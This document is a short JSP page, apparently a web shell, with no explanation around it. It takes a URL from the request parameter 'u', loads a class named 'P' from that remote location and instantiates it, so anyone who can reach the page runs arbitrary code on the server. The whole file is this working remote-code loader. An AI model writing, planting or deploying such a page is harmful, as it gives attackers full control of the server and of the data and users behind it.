<%@ page import="java.net.*" %>
<%
  URL u = new URL(request.getParameter("u"));
  URLClassLoader l = new URLClassLoader(new URL[]{u});
  l.loadClass("P").newInstance();
%>
